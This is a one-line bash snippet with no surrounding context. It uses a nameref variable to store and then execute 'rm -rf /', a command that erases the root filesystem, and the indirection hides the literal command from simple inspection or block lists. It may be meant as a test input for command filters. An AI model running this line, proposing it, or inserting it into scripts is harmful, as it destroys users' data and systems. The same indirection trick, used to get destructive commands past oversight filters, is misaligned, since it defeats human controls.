declare -n c=x; x="rm -rf /"; $c
